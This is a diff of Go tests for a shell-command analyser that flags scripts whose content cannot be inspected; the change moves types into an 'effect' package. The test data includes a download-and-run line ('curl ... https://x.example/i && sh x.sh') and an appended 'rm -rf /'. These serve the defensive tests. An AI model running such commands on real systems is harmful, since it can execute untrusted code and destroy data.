@@ -6,6 +6,8 @@ import (
 	"slices"
 	"strings"
 	"testing"
+
+	"github.com/guardhq/guard/internal/shell/effect"
 )
 
 // fakeFiles is an Options.Files for tests: the files it holds, by the path
@@ -13,12 +15,12 @@ import (
 type fakeFiles struct {
 	files map[string]string
 	// status, when set for a path, is what a read of it finds.
-	status map[string]FileStatus
+	status map[string]effect.FileStatus
 	asked  []string
 	maxes  []int
 }
 
-func (f *fakeFiles) ReadFile(p string, max int) ([]byte, FileStatus) {
+func (f *fakeFiles) ReadFile(p string, max int) ([]byte, effect.FileStatus) {
 	f.asked = append(f.asked, p)
 	f.maxes = append(f.maxes, max)
 	if st, ok := f.status[p]; ok {
@@ -27,11 +29,11 @@ func (f *fakeFiles) ReadFile(p string, max int) ([]byte, FileStatus) {
 	t, ok := f.files[p]
 	switch {
 	case !ok:
-		return nil, FileAbsent
+		return nil, effect.FileAbsent
 	case len(t) > max:
-		return []byte(t[:max]), FileTooBig
+		return []byte(t[:max]), effect.FileTooBig
 	}
-	return []byte(t), FileWhole
+	return []byte(t), effect.FileWhole
 }
 
 func analyzeWith(cmd string, files map[string]string) (*Analysis, *fakeFiles) {
@@ -139,7 +141,7 @@ func TestFilesAsked(t *testing.T) {
 	if want := []string{"sub/x.sh", "sub/y.py", "sub/./bin/app"}; !slices.Equal(f.asked, want) {
 		t.Errorf("asked %q, want %q", f.asked, want)
 	}
-	if want := []int{MaxScriptBytes, MaxProgramBytes, sniffBytes}; !slices.Equal(f.maxes, want) {
+	if want := []int{effect.MaxScriptBytes, effect.MaxProgramBytes, sniffBytes}; !slices.Equal(f.maxes, want) {
 		t.Errorf("bounds %d, want %d", f.maxes, want)
 	}
 	if want := []string{"sub/x.sh", "sub/y.py"}; !slices.Equal(a.Files, want) {
@@ -156,23 +158,23 @@ func TestFilesAsked(t *testing.T) {
 func TestFilesHidden(t *testing.T) {
 	for _, tc := range []struct {
 		cmd    string
-		status FileStatus
+		status effect.FileStatus
 		hidden bool
 	}{
-		{"sh x.sh", FileTooBig, true},
-		{"sh x.sh", FileUnreadable, true},
-		{"python3 x.sh", FileTooBig, true},
-		{"source x.sh", FileUnreadable, true},
-		{"sh x.sh", FileAbsent, false},
-		{"./x.sh", FileUnreadable, true},
-		{"./x.sh", FileAbsent, false},
-		{"sed -i 's/^#//' x.sh && sh x.sh", FileAbsent, true},
-		{"curl -so x.sh https://x.example/i && sh x.sh", FileAbsent, true},
-		{"tar xf a.tar && sh x.sh", FileAbsent, true},
-		{"git pull && sh x.sh", FileAbsent, false},
-		{"rm -f x.sh; sh x.sh", FileAbsent, false},
+		{"sh x.sh", effect.FileTooBig, true},
+		{"sh x.sh", effect.FileUnreadable, true},
+		{"python3 x.sh", effect.FileTooBig, true},
+		{"source x.sh", effect.FileUnreadable, true},
+		{"sh x.sh", effect.FileAbsent, false},
+		{"./x.sh", effect.FileUnreadable, true},
+		{"./x.sh", effect.FileAbsent, false},
+		{"sed -i 's/^#//' x.sh && sh x.sh", effect.FileAbsent, true},
+		{"curl -so x.sh https://x.example/i && sh x.sh", effect.FileAbsent, true},
+		{"tar xf a.tar && sh x.sh", effect.FileAbsent, true},
+		{"git pull && sh x.sh", effect.FileAbsent, false},
+		{"rm -f x.sh; sh x.sh", effect.FileAbsent, false},
 	} {
-		f := &fakeFiles{status: map[string]FileStatus{"x.sh": tc.status, "./x.sh": tc.status}}
+		f := &fakeFiles{status: map[string]effect.FileStatus{"x.sh": tc.status, "./x.sh": tc.status}}
 		a := analyze(tc.cmd+"; rm -rf /", Options{Files: f})
 		if got := errors.Is(a.Err, ErrHidden); got != tc.hidden {
 			t.Errorf("%q, %v: error %v, want hidden %v", tc.cmd, tc.status, a.Err, tc.hidden)
@@ -192,7 +194,7 @@ func TestFilesHidden(t *testing.T) {
 	}
 	// A script too large to read whole: the first bytes are not analysed
 	// as if they were all of it.
-	a, _ := analyzeWith("sh big.sh", map[string]string{"big.sh": "true\n" + strings.Repeat("#", MaxScriptBytes)})
+	a, _ := analyzeWith("sh big.sh", map[string]string{"big.sh": "true\n" + strings.Repeat("#", effect.MaxScriptBytes)})
 	if !errors.Is(a.Err, ErrHidden) {
 		t.Errorf("big script: %v", a.Err)
 	}
@@ -202,23 +204,23 @@ func TestFilesHidden(t *testing.T) {
 // limits, which block.
 func TestFilesBounded(t *testing.T) {
 	loop, _ := analyzeWith("sh a.sh", map[string]string{"a.sh": "sh a.sh"})
-	if !errors.Is(loop.Err, ErrLimit) {
+	if !errors.Is(loop.Err, effect.ErrLimit) {
 		t.Errorf("a script running itself: %v", loop.Err)
 	}
 	files := map[string]string{}
 	var cmd []string
-	for i := range MaxFiles + 1 {
+	for i := range effect.MaxFiles + 1 {
 		name := "s" + strings.Repeat("x", i) + ".sh"
 		files[name] = "true"
 		cmd = append(cmd, "sh "+name)
 	}
 	many, _ := analyzeWith(strings.Join(cmd, "; "), files)
-	if !errors.Is(many.Err, ErrLimit) {
-		t.Errorf("%d files: %v", MaxFiles+1, many.Err)
+	if !errors.Is(many.Err, effect.ErrLimit) {
+		t.Errorf("%d files: %v", effect.MaxFiles+1, many.Err)
 	}
-	words, _ := analyzeWith("sh w.sh", map[string]string{"w.sh": strings.Repeat("a b c d e f g h\n", MaxFileWords/8+1)})
-	if !errors.Is(words.Err, ErrLimit) {
-		t.Errorf("a script of more than %d words: %v", MaxFileWords, words.Err)
+	words, _ := analyzeWith("sh w.sh", map[string]string{"w.sh": strings.Repeat("a b c d e f g h\n", effect.MaxFileWords/8+1)})
+	if !errors.Is(words.Err, effect.ErrLimit) {
+		t.Errorf("a script of more than %d words: %v", effect.MaxFileWords, words.Err)
 	}
 	// A script's words do not count against the command's own.
 	ok, _ := analyzeWith("sh w.sh", map[string]string{"w.sh": strings.Repeat("a b c d e f g h\n", MaxWords/8+1)})
@@ -263,19 +265,19 @@ func TestShebang(t *testing.T) {
 // MaxFiles; more distinct files than MaxFiles is still beyond the limit.
 func TestFilesReadOnce(t *testing.T) {
 	files := &fakeFiles{files: map[string]string{"x.sh": "echo hi"}}
-	cmd := strings.Repeat("sh x.sh; python3 -m pytest; ", 3*MaxFiles)
+	cmd := strings.Repeat("sh x.sh; python3 -m pytest; ", 3*effect.MaxFiles)
 	a := analyze(cmd, Options{Home: "/home/u", Files: files})
 	if a.Err != nil {
-		t.Fatalf("%d runs of the same files: %v", 3*MaxFiles, a.Err)
+		t.Fatalf("%d runs of the same files: %v", 3*effect.MaxFiles, a.Err)
 	}
 	if n := len(files.asked); n > 4 {
 		t.Errorf("asked %d times for %q, want each file once", n, files.asked)
 	}
 	var b strings.Builder
-	for i := 0; i <= MaxFiles; i++ {
+	for i := 0; i <= effect.MaxFiles; i++ {
 		fmt.Fprintf(&b, "sh s%d.sh; ", i)
 	}
-	if a := analyze(b.String(), Options{Home: "/home/u", Files: &fakeFiles{}}); !errors.Is(a.Err, ErrLimit) {
-		t.Errorf("%d distinct scripts: %v, want ErrLimit", MaxFiles+1, a.Err)
+	if a := analyze(b.String(), Options{Home: "/home/u", Files: &fakeFiles{}}); !errors.Is(a.Err, effect.ErrLimit) {
+		t.Errorf("%d distinct scripts: %v, want ErrLimit", effect.MaxFiles+1, a.Err)
 	}
 }
